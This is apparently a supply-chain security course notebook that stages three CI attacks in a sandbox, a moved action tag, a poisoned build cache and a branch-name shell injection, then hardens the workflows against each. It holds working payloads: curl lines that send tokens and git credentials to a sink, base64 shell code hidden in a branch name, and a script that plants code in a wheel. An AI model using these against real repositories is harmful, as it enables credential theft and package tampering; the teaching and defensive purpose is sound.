# %% [markdown]
# # Week 2 · Three attacks that really run
#
# > In December 2024 two pull requests to Ultralytics carried shell code in the *name of their branch*. It poisoned a cache
# > that the release restored. Versions 8.3.41 and 8.3.42 came out of the right workflow, with attestations.
# > [V: PyPI, attack analysis; the details S]
#
# **You will** (65 min: 19 reading, 46 doing)
# - steal a secret through a tag that moved, pin it, and steal the secret again one level deeper
# - poison a cache, and verify a bad wheel with clients that are right to accept it
# - push to a repository you have no right to, with the name of a branch
# - stop each of them with one change, and say which check did it
#
# **Before:** `02_anatomy`. **Next:** `02_evidence`. **Lab:** `labs/02_hardening.ipynb`

# %% tags=["parameters"]
seed = 1

# %%
import re

import chainlab
from chainlab.course.project_states import working_copy

lab = chainlab.open("02_attacks", seed=seed)
lab.ci.sandbox.require()  # no wall around the jobs, no payloads
mirror, cache = lab.ci.platform.mirror, lab.ci.platform.cache
mirror.reset()
cache.delete("acme/triage-model")
CI, LABEL, RELEASE = (f".github/workflows/{name}.yml" for name in ("ci", "label", "release"))


def project_of(kind="weak"):
    """acme's repository, with its files as they are or with the hardened workflows."""
    folder = working_copy(lab.data / "projects", lab.path / "triage-model", kind)
    return lab.ci.project("acme/triage-model", folder, lab.data / "projects/settings/triage-model.toml")

# %% [markdown]
# `sandbox.require()` stops here on a machine where nothing would keep a payload in. The payloads read *fake* secrets, and
# send them to a *sink*: a small server on this machine, opened by this notebook, that collects what it is sent. Jobs reach
# it only when we name its port. Attackers and victims are fictional. You keep the promise of week 0: none of this leaves
# this machine, and none of it is tried on anybody else's.
#
# Each attack goes the same way: what happened, the entry, the payload, your prediction, the run, **the sink or the
# registry**, one defence, the same attack again. Logs prove nothing here. A thief writes the log, too.
#
# ## Attack 1: the tag moves
# **What happened.** March 2025: whoever held a token of `tj-actions` pointed every tag of `changed-files` at one commit,
# which printed the secrets of the run into its log. [V: CVE-2025-30066; how: S]
#
# **The entry.** `ci.yml` calls `acme/changed-files@v3`, and its job has `HUB_TOKEN` in `env:`. (To save time, three
# commands that install and test become `true`. Nothing else is changed.)

# %%
acme = project_of()
file = acme.folder / CI
acme.edit(CI, ("python -m pip", "true"), ("uv pip", "true"), ("python -m pytest", "true"))
for line in file.read_text().splitlines():
    if "uses:" in line or "HUB_TOKEN" in line:
        print(line.strip())

# %% [markdown]
# **The payload.** A commit in the action's repository, and the tag on it. The thief has the maintainer's token, and no
# rights at all in `acme/triage-model`. Three lines print acme's token, print it spelled differently, and send it off.
#
# **Predict.** The tag moves, and acme pushes a commit that has nothing to do with it. How does the run end, and what is in
# the sink? Put your guesses in place of `None` in the second cell, run both and compare.

# %%
def thief(name, sink):
    """An action that takes what it finds."""
    return {"action.yml": f"""
name: {name}
description: Does what it says, it says.
runs:
  using: composite
  steps:
    - shell: bash
      run: |
        echo "token:    $HUB_TOKEN"
        echo "checksum: $(printf %s "$HUB_TOKEN" | base64 | base64)"
        curl --silent --data "$HUB_TOKEN" {sink.url}
""".encode()}

# %% tags=["predict"]
prediction = {"the run": None, "the sink": None}  # "success" or "failure"; "nothing" or "a token"

sink = lab.sink()
promised = mirror.resolve("acme/changed-files@v3").commit
moved = mirror.move_tag("acme/changed-files", "v3", thief("changed-files", sink))
run = acme.run("push", ports=[sink.port])
print("sink:  ", sink.text)
print("v3 ran:", "what it promised" if run.actions["acme/changed-files@v3"] == promised else "something else")
lab.predicted(prediction, {"the run": run.result, "the sink": "a token" if "FAKE-" in sink.text else "nothing"})

# %% [markdown]
# The run is green, no file of ours changed, and the token is in the sink. The host noted which commit `v3` was.
#
# The thief also *printed* the token, once as it is and once in base64 of base64. Anybody may read the log where a repository
# is public.
#
# **Predict.** In which of the two lines does the platform hide it?

# %% tags=["predict"]
import base64

prediction = {"token": None, "checksum": None}  # True (hidden) or False

log = dict(re.findall(r"(?m)^(token|checksum): +(\S+)", run.log))
print(log)
readable = base64.b64decode(base64.b64decode(log["checksum"])).decode()
lab.predicted(prediction, {"token": log["token"] == "***", "checksum": "FAKE-" not in readable})

# %% [markdown]
# The platform hides a secret as it is spelled, and no other way. The sink was not even needed: in March 2025 the log
# *was* the way out. [S]
#
# **One defence: name the commit.** We pin that one line to what `v3` meant before it moved. (Not to what it means now!
# Whoever pins on the day of the attack pins the attack.) The tag `v3.0.0` was not moved; in real life you would read
# the commit.

# %%
good = mirror.resolve("acme/changed-files@v3.0.0").commit
acme.edit(CI, ("acme/changed-files@v3", f"acme/changed-files@{good}  # v3.0.0"))
sink = lab.sink()
run = acme.run("push", ports=[sink.port])
print("run:", run.result, "| sink:", sink.text or "nothing", "| as pinned:", good in run.actions.values())

# %% [markdown]
# The attack failed, and the check that stopped it is one of the simplest: a commit id *is* a hash of the content. The
# tag still points to the thief's commit. Nobody asked for the tag.
#
# ### One level deeper
# Three days before, `reviewdog/action-setup@v1` had moved. Other actions called it inside, and their users were hit
# "regardless of version or pinning method". [V: CVE-2025-30154] So we pin *all* that `ci.yml` names, by what it means
# now, and the thief, who has another token, moves `acme/pip-cache@v1`. Our file does not contain that name.
#
# **Predict.** Does the token reach the sink?

# %% tags=["predict"]
prediction = None  # True or False

text = file.read_text()
for reference in set(re.findall(r"uses: (\w[\w./-]+@[\w.]+)", text)):
    text = text.replace(reference, reference.split("@")[0] + "@" + mirror.resolve(reference).commit)
file.write_text(text)
acme.commit("pin all")
sink = lab.sink()
mirror.move_tag("acme/pip-cache", "v1", thief("pip-cache", sink))
run = acme.run("push", ports=[sink.port])
print("pip-cache in our file:", "pip-cache" in file.read_text(), "| sink:", sink.text or "nothing")
lab.predicted(prediction, "FAKE-" in sink.text)

# %% [markdown]
# Every line of `ci.yml` is pinned, every pin held, and the token is gone. Who named the thief?

# %%
def tree(folder):
    """Every action that ci.yml reaches."""
    text = (folder / ".github/workflows/ci.yml").read_text()
    local = lambda path: (folder / path).read_text() if (folder / path).exists() else None
    return mirror.closure({"ci.yml": text}, read=local)


before = tree(acme.folder)
before

# %% [markdown]
# Our file names four actions by commit. Our *own* action `.github/actions/summary` names a branch, `main`: ours to pin. And
# two names that can move stand in a file that is not ours. What can you do about those?
#
# 1. **Do without.** Our hardened `ci.yml` uses no `setup-ml-python`: the runner has a Python.
# 2. Use an action whose author pins too, and *check the whole tree* whenever you move the pin.
# 3. Copy it: a commit of your own, with the nested names pinned, that you must now keep up to date.
# 4. **Leave it nothing to steal.** The second line of defence, and the better one: had `HUB_TOKEN` stood in the `env:` of
#    the one step that needs it, and the job's token been `contents: read`, the thief would have found no more than
#    the guest of `02_anatomy` in its last column.
#
# (A policy of the platform can *require* commit pins, and block actions by name. [V: changelog, 15 August 2025] It looks
# inside composite actions, too: a caller whose own lines are all pinned is refused before it runs when an action that it
# uses names another by tag. That stops this attack. The price: many popular actions could not be used until their authors
# had pinned what they call. [V: maintainers' threads, such as github-slug-action issue 174])
#
# We take the first, and the same attack again:

# %%
text = re.sub(r" +- uses: acme/setup-ml-python.*\n +with:\n.*\n", "", file.read_text())
file.write_text(text)
summary = acme.folder / ".github/actions/summary/action.yml"
metrics = mirror.resolve("northwind-ml/post-metrics@main").commit
summary.write_text(summary.read_text().replace("post-metrics@main", f"post-metrics@{metrics}"))
acme.commit("do without")
sink = lab.sink()
run = acme.run("push", ports=[sink.port])
print("run:", run.result, "| sink:", sink.text or "nothing")
tree(acme.folder)

# %% tags=["check"]
assert readable.startswith("FAKE-") and log["token"] == "***"
assert sorted(a.ref for a in before if not a.pinned) == ["main", "v1", "v5"]  # the text counts them
assert sum(a.pinned for a in before) == 4 and all(a.pinned for a in tree(acme.folder))
assert moved != promised == good and run.result == "success" and not sink.received
assert "acme/pip-cache" not in run.log and "setup-ml-python" not in file.read_text()

# %% [markdown]
# ## Attack 2: a good builder, a bad wheel
# **What happened.** TanStack, May 2026: a pull request's run saved a poisoned cache under `main`'s key; a release
# restored it; 84 bad versions verified. [V: TanStack post-mortem] Ultralytics, the same in 2024. [V: PyPI]
#
# **Which platform.** Until 26 June 2026 a run of `pull_request_target` could write the default branch's cache. Since
# then it only reads it. [V: changelog] We attack the platform *as it was*, and say so in the call:
# `cache_rule="before-2026-06-26"`. A cache has *scopes*, one for each ref:

# %%
import matplotlib.pyplot as plt

from chainlab.dashboards import diagrams

plt.style.use("chainlab.dashboards.style")
fig, ax = diagrams.cache_scopes(title="One scope is written by a stranger's run and read by the release")

# %% [markdown]
# In words: a run searches its own ref's scope, then its base's, then the default branch's. A `pull_request` writes into a
# scope of its own, which no release reads. A `pull_request_target` wrote into that of `main`, and a release reads there.
#
# **The entry.** `bench.yml` runs on `pull_request_target`, checks out the change, executes its `tests/size.py` and keeps
# `.wheels`. `release.yml` restores `.wheels`. They share the beginning of a key: `wheels-`. Before the attack acme has
# followed one piece of advice: it stores no upload token. With *trusted publishing* the index accepts an upload by the
# job's own identity token, here from the environment `release`. So the wheel will carry an attestation.

# %%
mirror.reset()  # the owners have their repositories back
acme = project_of()
init = acme.folder / "src/triage_model/__init__.py"
init.write_text(init.read_text().replace("1.4.0", "1.4.1"))
_ = acme.edit(RELEASE,
              ("        with:\n          password: ${{ secrets.PYPI_TOKEN }}\n", ""),
              ("    needs: build\n", "    needs: build\n    environment: release\n"))

# %% [markdown]
# **The payload.** Mallory replaces the file that measures sizes. Hers takes a wheel from the kept ones and writes a
# "newer version" of it beside it, with one more line. The line leaves a marker, in whatever project trains with it.
# (The real one stole tokens. Ours writes "left by a cache".)
#
# **Predict.** What does the benchmark's run report for her pull request, and into which scope does it save?

# %%
POISON = '''
import zipfile
from pathlib import Path

good = zipfile.ZipFile(next(Path(".wheels").glob("acme_quantise-1.0.3-*.whl")))
with zipfile.ZipFile(".wheels/acme_quantise-1.0.9-py3-none-any.whl", "w") as bad:
    for name in good.namelist():
        data = good.read(name).replace(b"1.0.3", b"1.0.9")
        if name == "acme_quantise/__init__.py":
            data += b"import pathlib; pathlib.Path('src/triage_model/marker.txt').write_text('left by a cache')"
        bad.writestr(name.replace("1.0.3", "1.0.9"), data)
print("456 lines")
'''

# %% tags=["predict"]
prediction = {"the run": None, "the scope": None}  # "success" or "failure"; a ref, such as "refs/pull/1/merge"

change = acme.propose({"tests/size.py": POISON}, branch="typo", owner="mallory")
bench = acme.run("pull_request_target", pull=change, workflow="bench.yml", cache_rule="before-2026-06-26")
print("run:", bench.result, "| as pull request it says:", bench.summary.strip())
(entry,) = (entry for entry in cache.entries("acme/triage-model") if f"runs/{bench.id}/" in entry.who)
lab.predicted(prediction, {"the run": bench.result, "the scope": entry.scope})

# %% [markdown]
# A green run that reports a plausible number. An entry in `main`'s scope, by a stranger. She closes her pull request; no
# line of hers is ever merged. Then somebody at acme tags a release. (This is the long run of this notebook.)
# Then look into the wheel, and list what is in no commit of acme's.

# %%
import zipfile

from chainlab.digests import Digest

acme.tag("v1.4.1")
release = acme.run("push", ref="refs/tags/v1.4.1", job="publish", approve=["release"])
wheel = "triage_model-1.4.1-py3-none-any.whl"
stored = lab.registry.index.file("triage-model", wheel)
print("in the index:", stored.filename)
release

# %%
ours = {path.name for path in init.parent.glob("*.py")}
with zipfile.ZipFile(lab.registry.index.path(stored)) as content:
    names = [name for name in content.namelist() if name.startswith("triage_model/")]
    foreign = {name: content.read(name).decode() for name in names if name.partition("/")[2] not in ours}
foreign

# %% [markdown]
# The marker is in the published wheel. The file is in no commit of acme's and in none of Mallory's.
#
# Now you are the user. Two signed statements come with this wheel: the workflow's, that it published it, and the
# platform's, how the job went that built it (its *provenance*). `02_evidence` takes both apart. Here one function verifies
# them: it asks the unmodified Sigstore client whether the signature holds under our root, then compares signer, digest and
# kind of statement with what you expect.
#
# **Predict.** You expect acme's `release.yml` at the tag v1.4.1 and the platform's own builder, and the bytes are those that
# you received. What are the two verdicts?

# %%
from pypi_attestations import AttestationType, Provenance

from chainlab.evidence.verifying import Expectations, Signer, verify

(attested,) = Provenance.model_validate(lab.registry.index.provenance(stored)).attestation_bundles
items = lab.registry.evidence.document(stored.digest)["attached"]
(item,) = (i for i in items if i["source"].endswith(f"/runs/{release.id}/jobs/build"))
by_workflow = attested.attestations[0].to_bundle().to_json().encode()
by_platform = lab.registry.evidence.read(stored.digest, Digest.parse(item["digest"]))
received = Digest.of_file(lab.registry.index.path(stored))

# %% tags=["predict"]
prediction = {"the workflow's statement": None, "the platform's statement": None}  # "passed" or "refused"

GIT, ISSUER, root = "https://git.chainlab.localhost", lab.trust.ci_issuer, lab.trust.config.trusted_root
release_yml = Signer(f"{GIT}/acme/triage-model/.github/workflows/release.yml@refs/tags/v1.4.1", ISSUER)
provenance_yml = Signer(f"{GIT}/chainlab/ci-host/.github/workflows/provenance.yml@refs/heads/main", ISSUER)
published = Expectations(release_yml, AttestationType.PYPI_PUBLISH_V1.value)
built = Expectations(provenance_yml, "https://slsa.dev/provenance/v1", commit=acme.head("refs/tags/v1.4.1"))
verdicts = {"the workflow's statement": verify(by_workflow, received, published, root),
            "the platform's statement": verify(by_platform, received, built, root)}
lab.predicted(prediction, {name: "passed" if v.passed else "refused" for name, v in verdicts.items()})

# %%
verdicts["the platform's statement"]

# %% [markdown]
# **Valid. Twice. On a bad wheel.** The clients are not fooled, and nothing is forged. Go through the promises:
#
# | promise | made by | kept? |
# |---|---|---|
# | these bytes were published by that workflow, at that tag, in that environment | the attestation | yes |
# | this job ran at that commit, for that event, with those actions | the provenance | yes |
# | what the index served to the job is listed | the provenance | yes |
# | **and nothing else went in** | **nobody** | – |
#
# That last one is what you wanted. SLSA asks a platform for it at Build **L3**, where one build may not poison another's
# cache. [V: SLSA v1.2] Our host claims L1, npm's provenance in May was about L2, and slsa.dev wrote that a policy on the
# expected builder "would have passed". [V: slsa.dev, 15 May 2026]
#
# Does the evidence say *anything*? Look at what is missing, and at who saw it:

# %%
definition = verdicts["the platform's statement"].statement.predicate["buildDefinition"]
listed = [d["name"] for d in definition["resolvedDependencies"] if d["uri"].startswith("pkg:")]
print("in the provenance:", len(listed), "packages; acme-quantise:",
      [n for n in listed if n.startswith("acme_quantise")] or "none")
(restored,) = [e.data for e in lab.events("dev.chainlab.cache.restored") if f"runs/{release.id}/" in e.data["who"]]
print("the host's event: ", "an entry restored from", restored["scope"])
(saved,) = [e.data for e in lab.events("dev.chainlab.cache.saved") if e.data["key"] == restored["key"]]
origin = next(run for run in lab.ci.runs() if f"runs/{run.id}/" in saved["who"])
print("and who saved it: ", origin.workflow.rpartition("/")[2], "on", origin.event, "for", origin.actor)

# %% [markdown]
# `triage-model` cannot be trained without `acme-quantise`, and the provenance lists none: the index served none, since
# `.wheels` had one already. What was *installed* came by a way that nobody lists. The host's events know the whole
# story; no field of a certificate does. Two checks would have told the user:
#
# - **rebuild** elsewhere, with an empty cache, and compare digests: we do it in a moment;
# - **compare the wheel with the commit**: one file too many. It works as long as the payload leaves files.
#
# ### Defence by the platform
# The same pull request, under the rule of today. And once more as `pull_request`, for which Mallory brings her own
# workflow file: she may, since that event runs the file of the change.
#
# **Predict.** Into which scope does each save? Write "nowhere", "main" or "its own".

# %% tags=["predict"]
prediction = {"pull_request_target, now": None, "pull_request, before": None}

own = (acme.folder / ".github/workflows/bench.yml").read_text().replace("pull_request_target:", "pull_request:")
second = acme.propose({"tests/size.py": POISON, ".github/workflows/bench.yml": own}, branch="again", owner="mallory")
before_june = {"workflow": "bench.yml", "cache_rule": "before-2026-06-26"}
tries = {
    "pull_request_target, now": acme.run("pull_request_target", pull=change, workflow="bench.yml"),
    "pull_request, before": acme.run("pull_request", pull=second, **before_june),
}
scopes = {name: [e.scope for e in cache.entries("acme/triage-model") if f"runs/{run.id}/" in e.who]
          for name, run in tries.items()}
kinds = {name: "nowhere" if not saved_in else "main" if "refs/heads/main" in saved_in else "its own"
         for name, saved_in in scopes.items()}
lab.predicted(prediction, kinds)

# %% [markdown]
# Now the token for the cache may only read, and the save is refused: the *platform* checks the scope that a job's
# credential may write. As `pull_request` the save works, into a scope that no release ever reads: a run searches its own
# ref, its base and the default branch. That was so before June 2026 as well.
#
# Is the matter closed, then? A run by a trusted event still writes `main`'s cache; if *that* run can be made to execute
# a stranger's code, the way is open again. And the rule is one platform's, for its own cache. So do not rely on it alone:
#
# ### Defence in the workflow
# The hardened release uses no cache, and installs by hash. The poisoned entry is still there. We build the same version
# again.
#
# **Predict.** Is the wheel the same as the published one? Is the model?

# %% tags=["predict"]
prediction = {"same wheel": None, "same model": None}  # True or False

there = [e for e in cache.entries("acme/triage-model") if e.key == saved["key"]]
acme = project_of("hardened")
init.write_text(init.read_text().replace("1.4.0", "1.4.1"))
acme.commit("1.4.1, hardened")
acme.tag("v1.4.1")
rebuilt = acme.run("push", ref="refs/tags/v1.4.1", job="build")
restores = [e for e in lab.events("dev.chainlab.cache.restored") if f"runs/{rebuilt.id}/" in e.data["who"]]
models = {run.artifacts["model"]["triage.onnx"] for run in (release, rebuilt)}
print("poison still in the cache:", bool(there), "| restored:", restores or "nothing")
lab.predicted(prediction, {"same wheel": rebuilt.artifacts["dist"][wheel] == str(received), "same model": len(models) == 1})

# %% [markdown]
# The poison lies where it lay, and nobody asks for it. That is the rebuild, too: same source, same version,
# **another digest**, so one of the two wheels is not what the source says. The models agree; here the poison had not
# touched them. (It could have: it ran in the training process.)
#
# Two things stopped it, independently. No step restores a cache. And had one done so, `--require-hashes` would have
# refused a wheel that `requirements.lock` does not name. Which of them would you drop, if caching saved you ten minutes a
# run? Exercise 2.5 is that question.
#
# ## Attack 3: the name of a branch
# **What happened.** Ultralytics again, the first step: the branch's name was shell code, and a workflow on
# `pull_request_target` pasted it into a script. [V: PyPI; details S] **The entry**, in `label.yml`:
#
# ```sh
# echo "BRANCH=${{ github.head_ref }}" >> $GITHUB_ENV
# ```
#
# **The payload.** A name may hold no space, no colon and no backslash. `${IFS}` is a space to a shell, and base64 needs no
# colon. What it decodes to uses the credential that `checkout` left in `.git/config`: it *pushes a branch to acme's
# repository*, and sends the credential to the sink. The files of the change hold a corrected typo and nothing else.
#
# **Predict.** What does she get by opening a pull request that nobody merges?

# %%
def branch_name(sink, quote):
    """A branch whose name, pasted between such quotes, is a program."""
    push, steal = "git push -q origin +HEAD:refs/heads/mallory-was-here", "git config --list | grep basic"
    code = base64.b64encode(f"{push}; {steal} | curl -s -d @- {sink.url}".encode()).decode()
    return f"x{quote};echo${{IFS}}{code}|base64${{IFS}}-d|sh;true${{IFS}}{quote}"


def strike(project, quote='"', files=None):
    """Open the pull request, let label.yml run, and look for what it left."""
    sink = lab.sink()
    files = files or {"README.md": "A typo, corrected.\n"}
    change = project.propose(files, branch=branch_name(sink, quote), owner="mallory")
    run = project.run("pull_request_target", pull=change, workflow="label.yml", ports=[sink.port])
    refs = lab.ci.platform.repositories.refs("acme/triage-model")
    pushed = refs.get("refs/heads/mallory-was-here") == change.head.commit
    got = "a credential" if "basic " in sink.text else sink.text or "nothing"
    return {"run": run.result, "sink": got, "branch in acme's repository": pushed}

# %% tags=["predict"]
prediction = {"a credential in the sink": None, "a branch in acme's repository": None}  # True or False

mirror.reset()
acme = project_of()
first = strike(acme)
lab.predicted(prediction, {"a credential in the sink": first["sink"] == "a credential",
                           "a branch in acme's repository": first["branch in acme's repository"]})

# %% [markdown]
# The stranger's commit is in acme's repository, under a branch of its own. It could have been any branch that is not
# protected. Three settings were needed: a pasted word, `contents: write`, and a credential left on disk. (The token
# itself is dead by now: it ended with its job. The branch stays.)
#
# **"Then quote it."** The line *had* double quotes, and the name brought one. Single quotes, say, in which a shell expands
# nothing.
#
# **Predict.** Do they stop the old name, which brings a double quote, and a new one, which brings a single quote?

# %% tags=["predict"]
prediction = {"single quotes, old name": None, "single quotes, new name": None}  # True (stopped) or False

acme.edit(LABEL, ('echo "BRANCH=${{ github.head_ref }}"', "echo 'BRANCH=${{ github.head_ref }}'"))
rows = {"single quotes, old name": strike(acme), "single quotes, new name": strike(acme, quote="'")}
lab.predicted(prediction, {name: not row["branch in acme's repository"] for name, row in rows.items()})

# %% [markdown]
# The old name fails: inside single quotes it is a word. The new one brings a single quote. There is no quote that a name
# cannot bring, for the paste happens *before* the shell reads any quotes.
#
# **One defence: do not paste, pass.** The value goes into the environment; the script names a variable. The shell expands
# it and does not parse the result again.

# %%
acme.edit(
     LABEL,
     ("        run: |\n          echo 'BRANCH=${{ github.head_ref }}' >> $GITHUB_ENV\n",
      "        env:\n          BRANCH: ${{ github.head_ref }}\n"
      "          TITLE: ${{ github.event.pull_request.title }}\n"
      '        run: |\n          echo "$BRANCH"\n'),
     ('"${{ github.event.pull_request.title }}"', '"$TITLE"'))
rows = {f"passed, name with {quote}": strike(acme, quote) for quote in ('"', "'")}
rows

# %% [markdown]
# Both names are inert. No list of bad characters, no filter.
#
# (We also stopped writing into `$GITHUB_ENV`: what a stranger says there becomes the environment of every later step.)
#
# **Change it.** Bring a third quote, the backtick, into the loop of the cell above. Does it find a way in?
#
# ### The other door
# `label.yml` still checks out the change and runs `tests/size.py` from it, under `contents: write`. Mallory does not need
# the name of the branch. The workflow says `actions/checkout@v4`; our mirror's `v4` is the one of before 20 July 2026.
#
# **Predict.** The injection is closed, and her file is an ordinary one. Does she get in, and does she after acme moves to
# `checkout@v7`?

# %% tags=["predict"]
prediction = {"injection closed, her file runs": None, "and checkout v7": None}  # True (she is in) or False

OPEN = "import subprocess; subprocess.run('git push -q origin +HEAD:refs/heads/mallory-was-here'.split())\n"
acme.edit(LABEL, ("actions/checkout@v7", "actions/checkout@v4"))  # should you run this cell again
rows = {"injection closed, her file runs": strike(acme, files={"tests/size.py": OPEN})}
acme.edit(LABEL, ("actions/checkout@v4", "actions/checkout@v7"))
rows["and checkout v7"] = strike(acme, files={"tests/size.py": OPEN})
lab.predicted(prediction, {name: row["branch in acme's repository"] for name, row in rows.items()})

# %% tags=["check"]
assert bench.result == release.result == rebuilt.result == "success"
assert origin.event == "pull_request_target" and origin.actor == "mallory"
assert rebuilt.artifacts["dist"][wheel] != str(received) and there
today = tries["pull_request_target, now"]
assert not any(f"runs/{today.id}/" in e.who for e in cache.entries("acme/triage-model"))
assert first["sink"] == "a credential" and first["branch in acme's repository"]
assert rows["injection closed, her file runs"]["branch in acme's repository"] is True
assert rows["and checkout v7"] == {"run": "failure", "sink": "nothing", "branch in acme's repository": False}

# %% [markdown]
# First, one door closed and the other open: she is in. Then the job fails, and nothing is executed: `actions/checkout` v7.0.0, of 18 June 2026, refuses to check
# out a fork's change under `pull_request_target`, unless `allow-unsafe-pr-checkout: true` says so. On 20 July 2026 the same
# refusal came to the older lines, as v4.4.0, v5.1.0 and v6.1.0. [V: release notes] So on the platform of today
# the first attempt fails, too, because `v4` has moved: here, for once, a moved tag is a gift. A plain `git fetch` in a
# script is outside that protection.
#
# The hardened set goes further and uses `pull_request` with `contents: read`: the label is not set by a robot then. A
# control costs something; say what.
#
# ## Pin *and* update
# The two halves of this notebook pull in opposite directions. Attack 1 says: name the commit, so that nothing changes
# behind your back. Attack 3 ends with a protection that came as a *change*. Who has it?
#
# | you wrote | a moved tag can hurt you | you get v7's protection |
# |---|---|---|
# | `actions/checkout@v7` | yes | yes |
# | `actions/checkout@<commit of v7.0.0>` | no | yes |
# | `actions/checkout@v4` | yes | yes, since v4.4.0 of 20 July 2026 [V: release notes]; before that, no |
# | `actions/checkout@<commit of v4.2.2>` | no | **no, whatever is backported** |
#
# A pin is a promise to yourself that you will look again. So: pin every level, keep the version in a comment, let a tool
# propose each new commit, *read* the change, and give fresh releases a few days before you take them. `chainlab ci pin`
# does the writing; in exercise 2.3 you write it first.
#
# ## What stopped what
# | attack | why it worked | stopped by | the check that says no |
# |---|---|---|---|
# | moved tag | a name in somebody else's hands | commit pins, at every level | the commit is the hash of its content |
# | | a secret in the whole job's `env:` | least privilege | there is nothing to steal |
# | poisoned cache | a stranger's run writes what a release reads | today's cache rule | the credential's scope |
# | | the release reads what others wrote | no cache, hashes | the lock file's digest |
# | branch name | words become code | pass, do not paste | the shell, which parses once |
# | checked-out change | a stranger's file runs with the project's token | `pull_request`; checkout v7 | event and origin |
#
# No signature stands in the right-hand column. Evidence told you afterwards *whose* workflow it was, and an independent
# rebuild told you that something was wrong. Preventing was the business of rights.
#
# **What is simplified here.** The payloads are short and their tokens fake. The real thieves read secrets and the identity
# token from the runner's memory [S; for TanStack V], so that masking and `env:` made no difference. The actions are our
# own. The runs of attack 1 were shortened, as said, and the release of attack 2 ran without its job `notes`.
#
# **You can now**
# - say who could read which secret, from `env:`, `permissions:` and who else runs in the job
# - pin through every nested level, and name what a pin costs
# - give a job so little that a thief in it finds nothing
# - split a cache by who writes and who reads, and say what changed on 26 June 2026 and what did not
# - make a stranger's words inert, and find the file that still runs
# - read "valid" as the answer to a question, and name the question that nobody answered
#
# **Exit questions.** 1. A release is pinned, has no cache and no stored token. What could a bad *dependency in
# `requirements.lock`* still do, and in which job? 2. Which one of the six rows above would you do first in a repository
# with 40 workflows, and what would you measure to know that it is done?
#
# **Lab:** `labs/02_hardening.ipynb`. There you write the controls, and then others break them.
